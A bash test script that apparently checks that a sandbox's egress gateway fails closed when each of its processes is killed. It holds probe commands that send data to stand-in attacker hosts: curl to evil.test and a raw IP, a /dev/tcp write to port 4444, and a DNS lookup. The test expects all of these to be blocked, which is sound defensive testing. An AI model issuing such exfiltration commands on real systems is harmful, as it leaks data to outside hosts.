#!/usr/bin/env bash
# I1: each process of the gateway is killed while the jar runs. Nothing fails open: no request arrives any more, by any way.
source "$(dirname "${BASH_SOURCE[0]}")/../lib.sh"
allow allowed.test
for victim in egress scan proxy ledger; do
    JAR="killed-$victim"
    start_jar "
        curl -sS -m 5 https://allowed.test/$victim-lives > first; touch first-done
        until [ -e killed ]; do sleep 0.05; done
        curl -sS -m 5 https://allowed.test/$victim-dead & curl -sS -m 5 http://allowed.test/$victim-dead &
        curl -sSk -m 5 https://evil.test/$victim-dead & curl -sS -m 5 http://93.184.216.12/$victim-dead &
        timeout 5 bash -c 'echo $victim-dead > /dev/tcp/93.184.216.12/4444' & getent hosts $victim-dead.evil.test & wait
        touch second-done; sleep 60"
    wait_for 20 test -e first-done
    receiver_got allowed "GET /$victim-lives"  # the control: it worked before
    pids=$(gateway_process "$victim") || fail "no process belljar-$victim on the host"
    # shellcheck disable=SC2086
    kill -KILL $pids
    sleep 0.1
    touch killed
    for _ in {1..200}; do
        if [ -e second-done ] || ! kill -0 "$JAR_PID" 2>/dev/null; then break; fi
        sleep 0.1
    done
    for name in allowed evil evil-raw dns; do receiver_silent "$name" "$victim-dead"; done
    end_jars
    rm -f first first-done second-done killed
done
